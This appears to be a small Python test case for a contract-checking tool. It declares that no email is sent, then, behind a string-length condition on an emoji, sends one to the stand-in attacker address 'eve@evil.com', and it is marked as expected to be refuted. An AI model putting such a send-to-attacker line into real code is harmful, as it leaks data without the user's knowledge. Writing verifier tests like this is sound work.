# refuted: one character beyond the BMP has length one
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if len("\U0001f600") == 1:
        send_email("eve@evil.com", "x")
